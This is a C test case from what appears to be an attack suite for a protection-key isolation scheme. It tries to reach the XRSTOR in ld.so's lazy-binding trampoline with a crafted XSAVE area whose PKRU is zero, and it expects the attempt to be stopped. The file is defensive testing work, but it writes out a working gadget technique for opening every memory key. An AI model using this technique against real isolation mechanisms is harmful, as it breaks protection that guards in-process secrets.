/* class: gates
 * source: ERIM, section 3.4 (XRSTOR); ld.so's _dl_runtime_resolve_xsave
 * tries: to jump to the XRSTOR of ld.so's trampoline with bit 9 (PKRU) in EAX and an area whose PKRU
 *   is 0
 * must: not open a key
 * expect: stopped */
#include "attack.h"

static char area[16384] __attribute__((aligned(64)));

ATTACK
{
    word at = find_code("ld-linux", "\x0f\xae\x6c\x24\x40", 5); /* xrstor 0x40(%rsp) */
    if (!at)
        return;
    char *stack = area + 4096;
    asm volatile("xsave 0x40(%0)" ::"r"(stack), "a"(-1), "d"(-1) : "memory");
    ucontext_t context;
    context.uc_mcontext.fpregs = (void *)(stack + 0x40);
    *saved_pkru(&context) = 0;
    register word to_stack asm("r12") = (word)stack, to asm("r13") = at;
    /* What follows the XRSTOR takes RBX for the stack, and jumps by R11. */
    asm volatile("push %%rbp; push %%rbx; lea -24(%%rsp), %%rbx; mov %%rbx, (%%rbx);"
                 "lea 1f(%%rip), %%r11; mov %0, %%rsp; xor %%edx, %%edx; mov $0x200, %%eax; jmp *%1;"
                 "1: pop %%rbx; pop %%rbp" ::"r"(to_stack), "r"(to)
                 : "rax", "rcx", "rdx", "rsi", "rdi", "r8", "r9", "r10", "r11", "memory");
    own();
}
